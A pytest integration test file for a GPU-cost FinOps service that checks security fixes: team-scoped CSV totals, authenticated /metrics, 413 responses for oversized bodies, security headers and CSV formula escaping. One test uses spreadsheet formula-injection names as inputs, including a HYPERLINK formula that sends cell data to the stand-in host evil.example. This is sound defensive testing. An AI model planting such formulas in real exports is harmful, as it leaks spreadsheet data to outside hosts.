"""Issue 17 part B, the attacks over HTTP on SQLite and PostgreSQL (each test is the attack; each failed on the
main before the fix): a team's CSV showing the fleet total (5), anonymous /metrics (6), oversized bodies read
whole (9), spreadsheet formulas in the CSV (12), missing security headers and a CDN-loaded /docs (13), two idle
waste figures (19), utilization without a pool (20)."""

from __future__ import annotations

import csv
import io
import select
import socket
import time
from collections.abc import Iterable, Iterator
from decimal import Decimal
from urllib.parse import urlparse

import pytest

from tests.integration.conftest import NOW_S, Database
from tests.integration.finops_server import BUCKET_S, DAY, WEEK_BUCKETS, Seeded, _records, _workload, seed

PROBLEM = "application/problem+json"
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def seeded(database: Database) -> Iterator[Seeded]:
    sd = seed(database)
    yield sd
    sd.server.stop()


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_app_team_csv_never_shows_the_fleet_total(seeded: Seeded) -> None:  # item 5
    s = seeded.server
    with s.client("app_team", "ann", team="team-a") as a, s.client("finops_admin", "alice") as fin:
        fleet = _csv(fin.get("/ui/api/breakdown.csv", params={"dim": "team"}).text)
        fleet_total = fleet[-1][-1]
        for dim in ("team", "tenant", "feature", "namespace"):
            rows = _csv(a.get("/ui/api/breakdown.csv", params={"dim": dim}).text)
            body, total = rows[1:-1], rows[-1]
            assert total[0] == "TOTAL"
            assert all("team-b" not in cell for row in rows for cell in row)
            mine = sum(Decimal(r[-1]) for r in body)
            assert Decimal(total[-1]) == mine, (dim, total, body)  # the team's own total...
            assert total[-1] != fleet_total  # ...never the fleet's
        own = a.get("/ui/api/overview").json()["kpis"]
        assert Decimal(str(own["cost_usd"])) == Decimal(_csv(a.get("/ui/api/breakdown.csv").text)[-1][-1])


def test_metrics_need_a_fleet_reader_token(seeded: Seeded) -> None:  # item 6
    s = seeded.server
    with s.client() as anon, s.client("app_team", "ann", team="team-a") as a, s.client("viewer", "prom") as prom:
        r = anon.get("/metrics")
        assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
        assert "gpufleet_cost_usd" not in r.text
        r = a.get("/metrics")
        assert r.status_code == 403 and "team-b" not in r.text
        r = prom.get("/metrics")
        assert r.status_code == 200 and 'gpufleet_gpu_hours{state="allocated",team="team-b"}' in r.text


def _raw_request(base_url: str, head: bytes, chunks: Iterable[bytes], timeout_s: float = 20.0) -> tuple[int, int]:
    """Send ``head`` and then ``chunks`` until the server answers; returns (status, body bytes sent)."""
    u = urlparse(base_url)
    sent = 0
    with socket.create_connection((u.hostname, u.port), timeout=timeout_s) as sock:
        sock.sendall(head)
        for chunk in chunks:
            if select.select([sock], [], [], 0)[0]:
                break  # the server answered already
            try:
                sock.sendall(chunk)
            except OSError:
                break
            sent += len(chunk)
        deadline = time.monotonic() + timeout_s
        data = b""
        while b"\r\n" not in data and time.monotonic() < deadline:
            part = sock.recv(65536)
            if not part:
                break
            data += part
    return int(data.split(b" ", 2)[1]), sent


def test_oversized_bodies_are_refused_before_they_are_read(seeded: Seeded) -> None:  # item 9
    s = seeded.server
    token = s.token("finops_admin", "alice")
    host = urlparse(s.base_url).netloc.encode()
    auth = b"Authorization: Bearer " + token.encode() + b"\r\n"
    # 100 MB declared: refused from the header alone (only 64 kB of it is ever offered)
    head = (
        b"POST /v1/reservations HTTP/1.1\r\nHost: " + host + b"\r\n" + auth
        + b"Content-Type: application/json\r\nContent-Length: 100000000\r\n\r\n"
    )  # fmt: skip
    status, sent = _raw_request(s.base_url, head, [b"{" + b" " * 65535])
    assert status == 413
    # a 75 MB CSV streamed (chunked, no length): refused once 8 MB are in, long before the 75 MB
    head = (
        b"POST /v1/utilization:ingest HTTP/1.1\r\nHost: " + host + b"\r\n" + auth
        + b"Content-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n"
    )  # fmt: skip
    piece = b"x" * 65536
    chunk = b"%x\r\n" % len(piece) + piece + b"\r\n"
    status, sent = _raw_request(s.base_url, head, (chunk for _ in range(75 * 16)))
    assert status == 413
    assert sent < 30 * 1024 * 1024, sent  # the server stopped reading (socket buffers hold a few MB more)
    with s.client("finops_admin", "alice") as fin:
        big = fin.post("/v1/teams", content=b'{"id": "t1", "name": "' + b"a" * 2_000_000 + b'"}',
                       headers={"content-type": "application/json"})  # fmt: skip
        assert big.status_code == 413 and big.headers["content-type"].startswith(PROBLEM)
        assert big.json()["field"] == "body"
        assert fin.get("/v1/teams/t1").status_code == 404
        ok = fin.post("/v1/teams", json={"id": "t2", "name": "fits"})  # a normal body still passes
        assert ok.status_code == 201


def test_csv_cells_are_not_spreadsheet_formulas(seeded: Seeded) -> None:  # item 12
    s = seeded.server
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)"]
    with s.client("app_team", "ann", team="team-a") as a, s.client("ml_platform_admin", "bob") as admin:
        for i, name in enumerate(names):
            wl = a.post("/v1/workloads", json={**_workload("team-a", 1, kind="training", priority="normal"),
                                               "name": name})  # fmt: skip
            assert wl.status_code == 201, wl.text
            recs = _records(wl.json()["workload_id"], "team-a", 1.0, 0.5)[:4]
            for r in recs:
                r["source"] = f"f{i}"
            assert admin.post("/v1/utilization:ingest", json={"records": recs}).status_code == 200
        for c in (a, admin):
            rows = _csv(c.get("/ui/api/breakdown.csv", params={"dim": "feature"}).text)
            keys = [r[0] for r in rows]
            assert not [k for k in keys if k.startswith(FORMULAS)], keys
            assert "'" + names[0] in keys and "'-2+3" in keys  # shown as text, not dropped


def test_security_headers_and_local_docs(seeded: Seeded) -> None:  # item 13
    s = seeded.server
    with s.client("finops_admin", "alice") as fin:
        for path in ("/v1/teams", "/ui/api/overview", "/healthz", "/nope", "/ui/overview"):
            r = fin.get(path)
            assert r.headers["x-content-type-options"] == "nosniff", path
            assert "frame-ancestors 'none'" in r.headers["content-security-policy"], path
            assert r.headers["cache-control"] == "no-store", path
        docs = fin.get("/docs")
        assert docs.status_code == 200
        assert "cdn" not in docs.text.lower() and "https://" not in docs.text
        for asset in ("swagger-ui-bundle.js", "swagger-ui.css"):
            got = fin.get(f"/docs/static/{asset}")
            assert got.status_code == 200 and len(got.content) > 10_000
            assert got.headers.get("cache-control") != "no-store"
        assert fin.get("/redoc").status_code == 404  # ReDoc loads from a CDN only: off


def test_one_idle_waste_figure_everywhere(seeded: Seeded) -> None:  # item 19
    s, p = seeded.server, seeded.price_res
    # team-a holds 6 reserved GPUs at 50 %, team-b 1.5 at 2 %, 0.5 of the 8 reserved is held by nobody: 168 h
    unbusy = (Decimal(6) * Decimal("0.5") + Decimal("1.5") * Decimal("0.98")) * 168 * p
    unallocated = Decimal("0.5") * 168 * p
    with s.client("finops_admin", "alice") as fin:
        util = fin.get("/v1/fleet/utilization", params={"sku": "h100_80gb", "window": "7d"}).json()
        assert util["idle_waste_usd"] == pytest.approx(float(unbusy + unallocated), abs=0.05)
        assert util["idle_unbusy_usd"] == pytest.approx(float(unbusy), abs=0.05)
        assert util["idle_unallocated_usd"] == pytest.approx(float(unallocated), abs=0.05)
        kpis = fin.get("/ui/api/overview").json()["kpis"]
        assert kpis["idle_waste_usd"] == pytest.approx(util["idle_waste_usd"], abs=0.01)
        per_wl = [fin.get(f"/v1/workloads/{w}/cost").json()["idle_waste_usd"] for w in (seeded.wl_a, seeded.wl_b)]
        assert sum(per_wl) == pytest.approx(util["idle_unbusy_usd"], abs=0.02)
        assert per_wl[0] == pytest.approx(float(6 * Decimal("0.5") * 168 * p), abs=0.02)


def test_utilization_names_its_pool_and_costs_follow_it(seeded: Seeded) -> None:  # item 20
    s = seeded.server
    spot = "nebius/eu-north1/h100_80gb/spot"
    with s.client("app_team", "cat", team="team-b") as b, s.client("ml_platform_admin", "bob") as admin:
        pools = {p["id"]: p for p in admin.get("/v1/pools", params={"sku_id": "h100_80gb"}).json()}
        price = Decimal(str(pools[spot]["price_usd_per_gpu_h"]))
        wid = b.post("/v1/workloads", json=_workload("team-b", 2, kind="training", priority="normal")).json()
        wid = wid["workload_id"]
        recs = _records(wid, "team-b", 2.0, 0.9)
        for r in recs:
            r["pool_id"] = spot
        got = admin.post("/v1/utilization:ingest", json={"records": recs})
        assert got.status_code == 200 and got.json()["inserted"] == WEEK_BUCKETS, got.text
        cost = b.get(f"/v1/workloads/{wid}/cost").json()
        # charged to the spot pool it ran in (not to the idle reservation, not at on-demand)
        assert set(cost["by_tier_usd"]) == {"spot"}, cost
        assert cost["cost_usd"] == pytest.approx(float(2 * 168 * price), abs=0.05)
        eu = admin.get("/v1/fleet/utilization", params={"sku": "h100_80gb", "region": "eu-north1"}).json()
        assert eu["region"] == "eu-north1" and eu["records"] == WEEK_BUCKETS and eu["avg_util"] == pytest.approx(0.9)
        us = admin.get("/v1/fleet/utilization", params={"sku": "h100_80gb", "region": "us-east-1"}).json()
        assert us["records"] == 0  # the seed's records name no pool: no region is claimed for them
        fc = admin.get("/v1/capacity/forecast", params={"sku": "h100_80gb", "region": "eu-north1", "days": 7}).json()
        assert fc["region"] == "eu-north1" and fc["history_days"] >= 7, fc  # a per-region forecast exists
        assert fc["demand"][0]["p50"] == pytest.approx(2.0, abs=0.5)
        fc_us = admin.get("/v1/capacity/forecast", params={"sku": "h100_80gb", "region": "us-east-1", "days": 7})
        assert fc_us.json()["history_days"] == 0 and fc_us.json()["supply"][0]["committed_units"] == 8
        csv_body = "source,bucket_start_s,bucket_s,workload_id,team_id,sku_id,gpus_allocated,gpu_util,pool_id\n"
        csv_body += f"csv,{NOW_S - DAY},{BUCKET_S},{wid},team-b,h100_80gb,1,0.5,aws/us-east-1/a100_80gb/spot\n"
        bad = admin.post("/v1/utilization:ingest", content=csv_body, headers={"content-type": "text/csv"})
        assert bad.status_code == 422 and bad.json()["field"] == "records[0].pool_id", bad.text
        nope = admin.post("/v1/utilization:ingest", json={"records": [{**recs[0], "pool_id": "aws/nowhere/x/spot"}]})
        assert nope.status_code == 422 and "unknown pool" in nope.json()["detail"]
